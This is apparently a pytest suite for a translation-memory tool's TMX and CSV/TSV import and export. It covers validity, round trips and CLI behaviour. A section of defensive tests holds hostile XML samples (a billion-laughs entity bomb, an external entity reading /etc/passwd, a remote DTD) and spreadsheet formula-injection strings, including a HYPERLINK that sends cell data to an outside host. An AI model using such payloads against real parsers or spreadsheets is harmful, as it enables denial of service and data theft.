"""TMX 1.4b: DTD-valid export, read by Translate Toolkit, lossless import of real files, safety, round trips."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from tm import exchange
from tm.errors import InputError
from tm.exchange import export_table, export_tmx, import_tmx
from tm.formats.tmx import OWN_PROPS, XML_LANG
from tm.letters import import_letter
from tm.store import TM, DocumentData, UnitData, VariantData
from tm.store.stream import iter_units
from tm.workers import can_fork, read_ahead

from .conftest import LETTER

DATA = Path(__file__).parent / "data" / "tmx"
REAL_FILES = sorted(p.name for p in DATA.glob("*.tmx"))


@pytest.fixture(scope="module")
def letter_tmx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("letter")
    tm = TM(f"sqlite:///{folder / 'tm.db'}")
    import_letter(tm, LETTER)
    out = folder / "letters.tmx"
    export_tmx(tm, out)
    return out


@pytest.fixture(params=["here", "worker"])
def reader(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Import tests run twice: the file parsed in this process, and in a worker process
    (what files of AHEAD_MIN_BYTES and more get)."""
    if request.param == "worker" and not can_fork():
        pytest.skip("no fork on this platform: files are always read in the importing process")
    monkeypatch.setattr(exchange, "AHEAD_MIN_BYTES", 0 if request.param == "worker" else 1 << 62)
    monkeypatch.setattr(exchange, "available_cpus", lambda: 2)  # a worker even where CI has one CPU
    return str(request.param)


def parse(path: Path) -> etree._ElementTree:
    return etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))


def test_export_is_valid_tmx_14b(letter_tmx: Path) -> None:
    dtd = etree.DTD(str(DATA / "tmx14.dtd"))
    tree = parse(letter_tmx)
    assert dtd.validate(tree), dtd.error_log.filter_from_errors()
    header = tree.find("header")
    for attr in ("creationtool", "creationtoolversion", "datatype", "o-tmf", "adminlang", "srclang", "creationdate"):
        assert header.get(attr), attr
    assert header.get("segtype") == "sentence" and header.get("srclang") == "en"
    tu = tree.find("body/tu")
    assert tu.get("tuid") and tu.get("creationdate") and tu.get("changedate")
    props = {p.get("type"): p.text for p in tu.findall("prop")}
    assert props["x-doc"] == LETTER.name and props["x-position"] == "0" and props["x-bead"] == "1-1-1"
    assert [tuv.get(XML_LANG) for tuv in tu.findall("tuv")] == ["en", "ru", "kk"]


def test_export_is_read_unit_by_unit_by_translate_toolkit(letter_tmx: Path, tmp_path: Path) -> None:
    from translate.storage.tmx import tmxfile

    with letter_tmx.open("rb") as fh:
        store = tmxfile(fh)
    tm = TM(f"sqlite:///{tmp_path / 'tm.db'}")
    import_letter(tm, LETTER)
    ours = list(iter_units(tm))
    assert len(store.units) == len(ours)
    for theirs, mine in zip(store.units, ours, strict=True):
        assert theirs.getid() == f"{mine.doc_id}:{mine.position}"
        texts = {node.get(XML_LANG): theirs.getNodeText(node) for node in theirs.getlanguageNodes()}
        assert texts == {lang: v.text for lang, v in mine.variants.items() if v.text}


def test_bilingual_export(tmp_path: Path) -> None:
    tm = TM(f"sqlite:///{tmp_path / 'tm.db'}")
    import_letter(tm, LETTER)
    out = tmp_path / "en-ru.tmx"
    result = export_tmx(tm, out, langs=["en", "ru"], srclang="en")
    tree = parse(out)
    assert result.units == len(tree.findall("body/tu")) > 100
    assert {tuple(t.get(XML_LANG) for t in tu.findall("tuv")) for tu in tree.findall("body/tu")} == {("en", "ru")}


def test_srclang_must_be_exported(tm: TM, tmp_path: Path) -> None:
    import_letter(tm, LETTER)
    with pytest.raises(InputError, match="--srclang kk"):
        export_tmx(tm, tmp_path / "x.tmx", langs=["en", "ru"], srclang="kk")


# -- real files from other tools -----------------------------------------------------------

def _tu_signature(tu: etree._Element) -> dict[str, object]:
    """What a TU carries: per language the exact seg content, props and notes (tm's own x- props aside)."""
    segs = {}
    for tuv in tu.findall("tuv"):
        lang = tuv.get(XML_LANG) or tuv.get("lang")
        seg = tuv.find("seg")
        inner = (seg.text or "") + "".join(
            etree.tostring(child, encoding="unicode", with_tail=True) for child in seg if isinstance(child.tag, str)
        )
        segs.setdefault(lang.lower(), inner)
    props = sorted((p.get("type"), p.text or "") for p in tu.iter("prop") if p.get("type") not in OWN_PROPS)
    notes = sorted(n.text or "" for n in tu.iter("note"))
    return {"segs": segs, "props": props, "notes": notes}


def _comments_dropped(tree: etree._ElementTree) -> None:
    for comment in tree.xpath("//comment()"):
        parent = comment.getparent()
        if parent is None:  # a comment outside the root element
            continue
        if comment.tail:
            prev = comment.getprevious()
            if prev is not None:
                prev.tail = (prev.tail or "") + comment.tail
            else:
                parent.text = (parent.text or "") + comment.tail
        parent.remove(comment)


@pytest.mark.parametrize("name", REAL_FILES)
def test_real_files_import_and_export_without_loss(name: str, reader: str, tm: TM, tmp_path: Path) -> None:
    result = import_tmx(tm, DATA / name, doc_id="sample")
    out = tmp_path / "again.tmx"
    export_tmx(tm, out)
    original = parse(DATA / name)
    _comments_dropped(original)  # XML comments are not content
    before = [_tu_signature(tu) for tu in original.iter("tu") if tu.find("tuv") is not None]
    after = [_tu_signature(tu) for tu in parse(out).iter("tu")]
    assert result.results[0].units == len(after) == len(before)
    for b, a in zip(before, after, strict=True):
        assert {k.lower(): v for k, v in a["segs"].items()} == b["segs"]
        assert a["props"] == b["props"] or [p for p in a["props"] if not p[0].startswith("tm:")] == b["props"]
        assert a["notes"] == b["notes"]
    assert etree.DTD(str(DATA / "tmx14.dtd")).validate(parse(out))


def test_utf16_files_are_read_as_text(reader: str, tm: TM) -> None:
    import_tmx(tm, DATA / "ImportTest1G.tmx", doc_id="be")  # UTF-16 big-endian with BOM
    import_tmx(tm, DATA / "ImportTest1A.tmx", doc_id="le")  # UTF-16 little-endian with BOM
    texts = [v.text for u in iter_units(tm) for v in u.variants.values()]
    assert "à=agrave, é=eacute, æ=aelig" in texts  # character references and literal characters alike
    assert texts.count("“=U+201C, –=U+2013, ¤=U+00A4") == 2


def test_inline_markup_is_plain_text_for_matching(tm: TM) -> None:
    import_tmx(tm, DATA / "header_with_prop_and_note.tmx", doc_id="inline")
    (unit,) = list(iter_units(tm))
    assert unit.variants["en-US"].text == "Click to start."
    assert unit.variants["fr"].text == "Cliquez pour commencer."
    assert unit.variants["en-US"].markup is not None


def test_tmx_11_lang_attribute_and_star_all(reader: str, tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "old.tmx"
    path.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx11.dtd">\n<tmx version="1.1">'
        '<header creationtool="X" creationtoolversion="1" segtype="sentence" o-tmf="x" adminlang="EN-US" '
        'srclang="*all*" datatype="plaintext"/><body>'
        '<tu><tuv lang="EN-GB"><seg>Colour</seg></tuv><tuv lang="KK-KZ"><seg>Түс</seg></tuv>'
        '<tuv lang="ru_RU"><seg>Цвет</seg></tuv></tu></body></tmx>',
        encoding="utf-8",
    )
    import_tmx(tm, path)
    (unit,) = list(iter_units(tm))
    assert {lang: v.text for lang, v in unit.variants.items()} == {"en-GB": "Colour", "kk-KZ": "Түс", "ru-RU": "Цвет"}
    assert tm.document("old").langs == ["en-GB", "kk-KZ", "ru-RU"]


# -- round trips ---------------------------------------------------------------------------

def _snapshot(tm: TM) -> list[tuple]:
    return [
        (u.doc_id, u.position, u.paragraph, u.bead, u.score, tuple(u.flags), u.note,
         tuple(sorted((lang, v.text, json.dumps(v.markup)) for lang, v in u.variants.items())),
         tuple(sorted((str(p[0]), p[1], p[2]) for p in u.props if p[1] != "tm:attr:tuid")))
        for u in iter_units(tm)
    ]


def test_round_trip_of_the_letters_tm(reader: str, tmp_path: Path) -> None:
    first = TM(f"sqlite:///{tmp_path / 'a.db'}")
    import_letter(first, LETTER)
    export_tmx(first, tmp_path / "a.tmx")
    second = TM(f"sqlite:///{tmp_path / 'b.db'}")
    import_tmx(second, tmp_path / "a.tmx")
    export_tmx(second, tmp_path / "b.tmx")
    assert _snapshot(first) == _snapshot(second)
    strip = lambda p: [l for l in p.read_text(encoding="utf-8").splitlines() if "<header" not in l]  # noqa: E731
    assert strip(tmp_path / "a.tmx") == strip(tmp_path / "b.tmx")


def test_a_file_read_in_a_worker_imports_what_one_read_here_imports(
    letter_tmx: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not can_fork():
        pytest.skip("no fork on this platform")
    extra = ('<tu tuid="twice"><prop type="x-doc">other</prop><tuv xml:lang="en"><seg>One <ph x="1"/> here</seg></tuv>'
             '<tuv xml:lang="en"><seg>Again</seg></tuv><tuv xml:lang="ru"><prop type="p">v</prop>'
             '<note>n</note><seg>Раз</seg></tuv></tu>\n')
    path = tmp_path / "mixed.tmx"
    path.write_text(letter_tmx.read_text(encoding="utf-8").replace("</body>", extra + "</body>"), encoding="utf-8")
    started = []
    monkeypatch.setattr(exchange, "read_ahead", lambda produce: started.append(1) or read_ahead(produce))
    monkeypatch.setattr(exchange, "available_cpus", lambda: 2)
    outcomes = []
    for threshold in (1 << 62, path.stat().st_size):  # here, then in a worker (the file is exactly large enough)
        monkeypatch.setattr(exchange, "AHEAD_MIN_BYTES", threshold)
        tm = TM(f"sqlite:///{tmp_path / f'{threshold}.db'}")
        read: list[int] = []
        result = import_tmx(tm, path, progress=read.append)
        outcomes.append((_snapshot(tm), [(r.doc_id, r.units) for r in result.results], result.warnings,
                         result.header, sum(read)))
    assert started == [1]
    assert outcomes[0] == outcomes[1]
    monkeypatch.setattr(exchange, "available_cpus", lambda: 1)  # one CPU: no worker, whatever the size
    import_tmx(TM(f"sqlite:///{tmp_path / 'one-cpu.db'}"), path)
    assert started == [1]
    snapshot, docs, warnings, header, read_bytes = outcomes[1]
    assert docs[-1] == ("other", 1) and len(docs) == 2
    assert len(warnings) == 1 and "second <tuv> for en" in warnings[0]
    assert header["creationtool"] == "tm" and read_bytes == path.stat().st_size


_ALPHABET = st.characters(
    codec="utf-8",
    exclude_categories=("Cs",),  # lone surrogates cannot be stored as UTF-8
) | st.sampled_from(list("әғқңөұүһі ӘҒҚҢӨҰҮҺІ\u0301\u0308😀\x01\x08\x0b\x1f\ufffe<>&\"'"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.dictionaries(st.sampled_from(["en", "ru", "kk"]), st.text(_ALPHABET, min_size=1, max_size=40),
                                      min_size=1), min_size=1, max_size=5))
def test_round_trip_of_arbitrary_text(tmp_path_factory: pytest.TempPathFactory, texts: list[dict[str, str]]) -> None:
    folder = tmp_path_factory.mktemp("rt")
    first = TM(f"sqlite:///{folder / 'a.db'}")
    units = [UnitData(variants={lang: VariantData(text) for lang, text in t.items()}) for t in texts]
    first.import_documents([(DocumentData(id="doc"), ["en", "ru", "kk"], units)])
    export_tmx(first, folder / "a.tmx")
    assert parse(folder / "a.tmx").getroot().tag == "tmx"  # always well-formed
    second = TM(f"sqlite:///{folder / 'b.db'}")
    import_tmx(second, folder / "a.tmx")
    kept = [[(lang, v.text) for lang, v in sorted(u.variants.items()) if v.text] for u in iter_units(first)]
    back = [[(lang, v.text) for lang, v in sorted(u.variants.items())] for u in iter_units(second)]
    assert back == [k for k in kept if k]


def test_forbidden_characters_are_escaped_with_a_warning(tm: TM, tmp_path: Path) -> None:
    tm.import_documents([(DocumentData(id="ctl"), ["en"], [UnitData(variants={"en": VariantData("bell\x07here")})])])
    result = export_tmx(tm, tmp_path / "c.tmx")
    assert result.warnings and "ctl unit 0" in result.warnings[0]
    assert b'<ph type="x-tm-char">U+0007</ph>' in (tmp_path / "c.tmx").read_bytes()


# -- hostile and broken input --------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>&lol9;</seg></tuv></tu></body></tmx>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu></body></tmx>"""

REMOTE_DTD = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "http://127.0.0.1:9/tmx14.dtd">
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>safe</seg></tuv></tu></body></tmx>"""


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
def test_hostile_files_are_refused_quickly(content: str, reader: str, tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "evil.tmx"
    path.write_text(content, encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(InputError, match="refused") as info:
        import_tmx(tm, path)
    assert time.perf_counter() - start < 1
    assert info.value.line == content.splitlines().index(next(l for l in content.splitlines() if "<!ENTITY" in l)) + 1
    assert not tm.has_document("evil")


def test_a_dtd_on_the_network_is_never_fetched(tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "remote.tmx"
    path.write_text(REMOTE_DTD, encoding="utf-8")
    import_tmx(tm, path)
    assert [v.text for u in iter_units(tm) for v in u.variants.values()] == ["safe"]


def test_malformed_halfway_imports_nothing_and_names_the_line(reader: str, tm: TM, tmp_path: Path) -> None:
    import_letter(tm, LETTER)
    before = tm.stats()
    good = "".join(f'<tu><tuv xml:lang="en"><seg>Unit {k}</seg></tuv></tu>\n' for k in range(3000))
    path = tmp_path / "broken.tmx"
    path.write_text(f'<?xml version="1.0"?>\n<tmx version="1.4"><header/><body>\n{good}<tu><tuv xml:lang="en"><seg>'
                    "unclosed</tuv></tu></body></tmx>", encoding="utf-8")
    with pytest.raises(InputError, match="not well-formed XML") as info:
        import_tmx(tm, path)
    assert info.value.line == 3003
    assert tm.stats() == before


@pytest.mark.parametrize(
    ("content", "message"),
    [('<xliff version="1.2"/>', "not a TMX file"),
     ('<tmx version="1.4"><body><tu><tuv xml:lang="xx-qq"><seg>a</seg></tuv></tu></body></tmx>', "unknown language"),
     ('<tmx version="1.4"><body><tu><tuv><seg>a</seg></tuv></tu></body></tmx>', "without a language")],
)
def test_wrong_files_are_refused(content: str, message: str, reader: str, tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "wrong.tmx"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        import_tmx(tm, path)


def test_own_props_that_are_not_numbers_are_kept_as_they_came(reader: str, tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "odd.tmx"
    odd = [("x-score", "1.2.3"), ("x-score", "high"), ("x-paragraph", "\u00b2"), ("x-paragraph", "-1")]
    path.write_text('<tmx version="1.4"><header/><body>' + "".join(
        f'<tu><prop type="{t}">{v}</prop><tuv xml:lang="en"><seg>Unit {k}</seg></tuv></tu>' for k, (t, v) in enumerate(odd)
    ) + "</body></tmx>", encoding="utf-8")
    import_tmx(tm, path)
    units = list(iter_units(tm))
    assert [(u.score, u.paragraph) for u in units] == [(1.0, 0)] * 4
    assert [u.props for u in units] == [[(None, t, v)] for t, v in odd]


@pytest.mark.parametrize(("type_", "value"), [
    ("x-paragraph", "99999999999999999999999"), ("x-paragraph", "2147483648"), ("x-score", "1e999"),
    ("x-score", "1.5"), ("x-score", "-0.1"), ("x-score", "nan"),
])
def test_own_props_out_of_range_are_refused_with_their_line(
    type_: str, value: str, reader: str, tm: TM, tmp_path: Path
) -> None:
    path = tmp_path / "range.tmx"
    units = "".join(f'<tu><tuv xml:lang="en"><seg>Unit {k}</seg></tuv></tu>\n' for k in range(700))
    path.write_text(f'<tmx version="1.4"><header/><body>\n{units}<tu>\n<prop type="{type_}">{value}</prop>'
                    '<tuv xml:lang="en"><seg>Last</seg></tuv></tu>\n</body></tmx>', encoding="utf-8")
    with pytest.raises(InputError, match=f"{type_} {value} is out of range") as info:
        import_tmx(tm, path)
    assert info.value.line == 703
    assert not tm.has_document("range")


def test_the_largest_paragraph_is_stored(tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "max.tmx"
    path.write_text('<tmx version="1.4"><header/><body><tu><prop type="x-paragraph">2147483647</prop>'
                    '<prop type="x-score">1</prop><tuv xml:lang="en"><seg>a</seg></tuv></tu></body></tmx>',
                    encoding="utf-8")
    import_tmx(tm, path)
    assert [(u.paragraph, u.score) for u in iter_units(tm)] == [(2147483647, 1.0)]


def test_a_tu_inside_another_is_refused(reader: str, tm: TM, tmp_path: Path) -> None:
    units = "".join(f'<tu><tuv xml:lang="en"><seg>Unit {k}</seg></tuv></tu>\n' for k in range(197))
    path = tmp_path / "nested.tmx"
    path.write_text(f'<tmx version="1.4"><header/><body>\n{units}<tu><tuv xml:lang="en"><seg>Outer</seg></tuv>\n'
                    '<tu><tuv xml:lang="en"><seg>Inner</seg></tuv></tu></tu>\n</body></tmx>', encoding="utf-8")
    with pytest.raises(InputError, match="a <tu> inside the <tu> of line 199") as info:
        import_tmx(tm, path)
    assert info.value.line == 200
    assert not tm.has_document("nested")


@pytest.mark.parametrize(("content", "line"), [
    (b'<tmx version="1.4"><header/><body>\n<tu><tuv xml:lang="en"><seg>a\x00b</seg></tuv></tu></body></tmx>', 2),
    ('<?xml version="1.0" encoding="IBM037"?><tmx version="1.4"/>'.encode("cp037"), 1),
    (b'\xff\xfe\x00\x00<\x00\x00', 1),
    (b"", None),
])
def test_libxml2_messages_are_one_line(content: bytes, line: int | None, reader: str, tm: TM, tmp_path: Path) -> None:
    path = tmp_path / "odd.tmx"
    path.write_bytes(content)
    with pytest.raises(InputError) as info:
        import_tmx(tm, path)
    assert "\n" not in str(info.value) and "  " not in str(info.value) and info.value.line == line, str(info.value)


# -- spreadsheets --------------------------------------------------------------------------

def test_tsv_and_csv_exports(tm: TM, tmp_path: Path) -> None:
    import csv

    import_letter(tm, LETTER)
    tsv = export_table(tm, tmp_path / "u.tsv", "tsv", langs=["en", "kk"])
    lines = (tmp_path / "u.tsv").read_text(encoding="utf-8").splitlines()
    assert lines[0] == "doc\tunit\ten\tkk" and len(lines) == tsv.units + 1
    assert lines[1].split("\t")[2:] == ["Ablyazov’s letter to Duvanov. Part II", "Әблязовтың Дувановқа хаты. II бөлім"]
    export_table(tm, tmp_path / "u.csv", "csv")
    with (tmp_path / "u.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["doc", "unit", "en", "ru", "kk"] and len(rows) == tsv.units + 1


def test_spreadsheet_cells_that_would_run_as_formulas_are_neutralised(tm: TM, tmp_path: Path) -> None:
    import csv

    risky = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1 (555) 0100", "-5 degrees", "@SUM(A1:A9)",
             "'=already quoted", "Plain text, = inside."]
    units = [UnitData({"en": VariantData(text), "ru": VariantData(f"Перевод {i}.")}) for i, text in enumerate(risky)]
    tm.import_documents([(DocumentData(id="risky"), ["en", "ru"], units)])
    export_table(tm, tmp_path / "safe.csv", "csv")
    with (tmp_path / "safe.csv").open(encoding="utf-8", newline="") as fh:
        cells = [row[2] for row in csv.reader(fh)][1:]
    assert cells == ["'" + t for t in risky[:5]] + [risky[5]]
    export_table(tm, tmp_path / "safe.tsv", "tsv")
    tsv = [line.split("\t")[2] for line in (tmp_path / "safe.tsv").read_text(encoding="utf-8").splitlines()[1:]]
    assert tsv == cells
    export_table(tm, tmp_path / "raw.csv", "csv", raw_formulas=True)
    with (tmp_path / "raw.csv").open(encoding="utf-8", newline="") as fh:
        assert [row[2] for row in csv.reader(fh)][1:] == risky


def test_neutralising_is_undone_on_reading_a_glossary(tmp_path: Path) -> None:
    from tm.formats.spreadsheet import neutralise, restore
    from tm.glossary.formats import read_file, write_file
    from tm.glossary.records import ConceptData, ConceptType, Status, TermData

    texts = ["=cmd", "+7", "-ов", "@home", "'=odd", "''+odder", "'s-Hertogenbosch", "plain"]
    assert [restore(neutralise(t)) for t in texts] == texts
    assert neutralise("'s-Hertogenbosch") == "'s-Hertogenbosch" and neutralise("-ов") == "'-ов"
    concepts = [ConceptData(id=f"c{i}", type=ConceptType.term, terms=(TermData("en", t, Status.preferred, None),))
                for i, t in enumerate(texts)]
    for name in ("g.csv", "g.tsv"):
        write_file(concepts, tmp_path / name)
        assert "\n'=cmd" not in (tmp_path / name).read_text(encoding="utf-8")
        assert [t.text for c in read_file(tmp_path / name) for t in c.terms] == texts


def test_a_bom_for_excel(tm: TM, tmp_path: Path) -> None:
    tm.import_documents([(DocumentData(id="d"), ["en", "ru"], [UnitData({"en": VariantData("A."),
                                                                          "ru": VariantData("Б.")})])])
    export_table(tm, tmp_path / "bom.csv", "csv", bom=True)
    export_table(tm, tmp_path / "plain.csv", "csv")
    assert (tmp_path / "bom.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "plain.csv").read_bytes()
    assert (tmp_path / "plain.csv").read_bytes().startswith(b"doc,unit,en,ru\r\n")


def _one_language_letters(tm: TM) -> None:
    both = [UnitData({"en": VariantData(f"Both {i}."), "ru": VariantData(f"Оба {i}.")}) for i in range(4)]
    tm.import_documents([
        (DocumentData(id="bilingual"), ["en", "ru"], both + [UnitData({"en": VariantData("Only English.")})]),
        (DocumentData(id="english"), ["en"], [UnitData({"en": VariantData(f"English {i}.")}) for i in range(3)]),
        (DocumentData(id="russian"), ["ru"], [UnitData({"ru": VariantData("Только по-русски.")})]),
    ])


def test_an_export_for_named_languages_holds_only_units_that_have_them_all(tm: TM, tmp_path: Path) -> None:
    _one_language_letters(tm)
    result = export_tmx(tm, tmp_path / "en-ru.tmx", langs=["en", "ru"])
    tree = parse(tmp_path / "en-ru.tmx")
    assert result.units == len(tree.findall("body/tu")) == 4 and result.left_out == 5
    assert {tuple(t.get(XML_LANG) for t in tu.findall("tuv")) for tu in tree.findall("body/tu")} == {("en", "ru")}
    assert result.warnings == ["left out 5 units that lack a text in a language asked for (en, ru); "
                               "units lacking each: ru 4, en 1"]
    table = export_table(tm, tmp_path / "en-ru.tsv", "tsv", langs=["en", "ru"])
    assert table.units == 4 and table.left_out == 5
    everything = export_tmx(tm, tmp_path / "all.tmx")  # without --langs: every unit, as it is
    assert everything.units == 9 and everything.left_out == 0 and not everything.warnings
    with pytest.raises(InputError, match="a TMX file pairs languages"):
        export_tmx(tm, tmp_path / "en.tmx", langs=["en"])
    assert not (tmp_path / "en.tmx").exists()
    assert export_table(tm, tmp_path / "en.tsv", "tsv", langs=["en"]).units == 8  # a list of one language's texts


def test_cli_says_how_many_units_were_left_out(run, tm: TM, tmp_path: Path) -> None:
    _one_language_letters(tm)
    result = run("export", "tmx", str(tmp_path / "x.tmx"), "--langs", "en,ru", "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["units"] == 4 and data["left_out"] == 5
    assert "left out 5 units" in result.stderr
    one = run("export", "tmx", str(tmp_path / "en.tmx"), "--langs", "en")
    assert one.exit_code == 2 and one.stderr.count("\n") == 1 and "tm export tsv" in one.stderr
    csv_result = run("export", "csv", str(tmp_path / "x.csv"), "--langs", "en,ru", "--bom", "--json")
    assert json.loads(csv_result.stdout)["left_out"] == 5 and "left out 5 units" in csv_result.stderr
    assert (tmp_path / "x.csv").read_bytes().startswith(b"\xef\xbb\xbfdoc,unit,en,ru")


# -- command line --------------------------------------------------------------------------

def test_cli_export_and_import(reader: str, run, tmp_path: Path) -> None:
    assert run("import", "letter", str(LETTER)).exit_code == 0
    out = tmp_path / "x.tmx"
    result = run("export", "tmx", str(out), "--langs", "en,kk", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["units"] > 100
    again = run("import", "tmx", str(out))
    assert again.exit_code == 2 and "--replace" in again.stderr
    other = run("import", "tmx", str(out), "--doc", "copy", "--json")
    assert json.loads(other.stdout)["imported"] == [
        {"doc": "copy", "units": json.loads(result.stdout)["units"], "replaced": False}
    ]
    bad = run("import", "tmx", str(tmp_path / "missing.tmx"))
    assert bad.exit_code == 2 and "no such file" in bad.stderr


def test_a_page_without_the_wanted_language_does_not_end_the_document(tm: TM) -> None:
    """iter_units pages through a document; a page whose units all lack the wanted
    language must not stop it before the units that have it."""
    units = [UnitData({"en": VariantData(f"English only {i}.")}) for i in range(5)]
    units += [UnitData({"en": VariantData(f"Both {i}."), "ru": VariantData(f"Оба {i}.")}) for i in range(3)]
    tm.import_documents([(DocumentData(id="mixed"), ["en", "ru"], units)])
    got = [(u.position, sorted(u.variants)) for u in iter_units(tm, langs=["ru"], page=2)]
    assert got == [(5, ["ru"]), (6, ["ru"]), (7, ["ru"])]
    assert [u.position for u in iter_units(tm, page=3)] == list(range(8))


def test_iter_texts_reads_what_iter_units_reads(tm: TM) -> None:
    """The lean reader of whole-TM checks gives every unit's texts, across page boundaries."""
    from tm.store.stream import iter_texts

    units = [UnitData({"en": VariantData(f"One {i}."), "ru": VariantData(f"Один {i}.")}) for i in range(5)]
    units.append(UnitData({"kk": VariantData("Тек қазақша.")}))
    tm.import_documents([(DocumentData(id="b"), ["en", "ru", "kk"], units),
                         (DocumentData(id="a"), ["en"], [UnitData({"en": VariantData("First.")})])])
    full = [(u.doc_id, u.position, u.paragraph, {k: v.text for k, v in u.variants.items()}) for u in iter_units(tm)]
    for page in (1, 2, 4, 100):
        assert [(u.doc_id, u.position, u.paragraph, u.texts) for u in iter_texts(tm, page=page)] == full
    assert [u.position for u in iter_texts(tm, ["b"], page=4)] == list(range(6))
    assert full[0][0] == "a" and full[-1][3] == {"kk": "Тек қазақша."}


def test_the_fast_writer_writes_what_the_full_writer_writes(tm: TM, tmp_path: Path) -> None:
    """Plain units are written straight from their rows; the result must be the <tu> that the
    full writer makes of the same unit read whole, with plain and other units mixed in pages."""
    from tm.formats.tmx.write import WriteReport, _tu

    units = [
        UnitData({"en": VariantData("Fish & chips <b>"), "ru": VariantData("Рыба")}),  # escaped, plain
        UnitData({"ru": VariantData("Только по-русски.")}),  # a language missing
        UnitData({"en": VariantData("Noted."), "kk": VariantData("Белгі.")}, note="a note"),
        UnitData({"en": VariantData("Bell\x07.")}),  # a character XML forbids: the full path
        UnitData({"en": VariantData("Flagged."), "ru": VariantData("С флагом.")}, flags=["disputed"]),
        UnitData({"en": VariantData(""), "ru": VariantData("Пусто по-английски.")}),
        UnitData({"en": VariantData("Three."), "ru": VariantData("Три."), "kk": VariantData("Үш.")}, score=0.8333333),
        # U+FFFD needs nothing but shares its first byte with U+FFFF, which XML forbids
        UnitData({"en": VariantData("Odd \ufffd sign."), "ru": VariantData("Знак\uffff."), "kk": VariantData("Белгі.")}),
        UnitData({"en": VariantData("Unit\x1fseparator."), "ru": VariantData("Разделитель."), "kk": VariantData("Бөлгіш.")}),
    ] * 3
    tm.import_documents([(DocumentData(id="mix"), ["en", "ru", "kk"], units)])
    out = tmp_path / "mix.tmx"
    export_tmx(tm, out)
    body = out.read_text(encoding="utf-8").split("<body>\n", 1)[1].rsplit("</body>", 1)[0]
    expected = "".join(filter(None, (_tu(u, ["en", "ru", "kk"], WriteReport()) for u in iter_units(tm, page=4))))
    assert body == expected and body.count("<tu ") == len(units)
    assert "Fish &amp; chips &lt;b&gt;" in body and '<tuv xml:lang="en"><seg></seg>' not in body
    assert '<prop type="x-score">0.833333</prop>' in body and "Odd \ufffd sign." in body
    assert body.count('<ph type="x-tm-char">U+FFFF</ph>') == body.count('<ph type="x-tm-char">U+001F</ph>') == 3
    from tm.store.pages import iter_row_pages

    pages = list(iter_row_pages(tm, ["en", "kk"], page=4))
    assert [row.position for p in pages for row in p.rows] == list(range(len(units)))
    assert {row.position for p in pages for row in p.rows if row.texts[1]} == {i for i, u in enumerate(units) if "kk" in u.variants}
    encoded = [row for p in iter_row_pages(tm, ["en", "kk"], page=4, encoded=True) for row in p.rows]
    assert [row.texts for row in encoded] == [
        tuple(None if t is None else t.encode() for t in row.texts) for p in pages for row in p.rows
    ]
    assert all(p.full.keys() == {row.id for row in p.rows if not row.plain} for p in pages)


def test_many_languages_are_read_a_row_per_variant(tm: TM, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Beyond MAX_JOINED_LANGS languages (a join per language), the readers take a row per
    variant; exports and texts must not change."""
    from tm.store import stream

    units = [UnitData({"en": VariantData(f"One {i}."), "ru": VariantData(f"Один {i}."), "kk": VariantData(f"Бір {i}.")})
             for i in range(5)]
    units += [UnitData({"ru": VariantData("Только & по-русски.")}, note="a note"), UnitData({"kk": VariantData("")})]
    tm.import_documents([(DocumentData(id="many"), ["en", "ru", "kk"], units)])
    joined = {name: tmp_path / f"joined.{name}" for name in ("tmx", "tsv")}
    export_tmx(tm, joined["tmx"])
    export_table(tm, joined["tsv"], "tsv")
    texts = [(u.position, u.texts, u.forms) for u in stream.iter_texts(tm, forms=True, page=3)]
    monkeypatch.setattr(stream, "MAX_JOINED_LANGS", 2)
    per_variant = {name: tmp_path / f"per-variant.{name}" for name in ("tmx", "tsv")}
    export_tmx(tm, per_variant["tmx"])
    export_table(tm, per_variant["tsv"], "tsv")
    strip = lambda p: [l for l in p.read_text(encoding="utf-8").splitlines() if "<header" not in l]  # noqa: E731
    assert strip(per_variant["tmx"]) == strip(joined["tmx"]) and len(strip(joined["tmx"])) > 7
    assert per_variant["tsv"].read_text(encoding="utf-8") == joined["tsv"].read_text(encoding="utf-8")
    assert [(u.position, u.texts, u.forms) for u in stream.iter_texts(tm, forms=True, page=3)] == texts
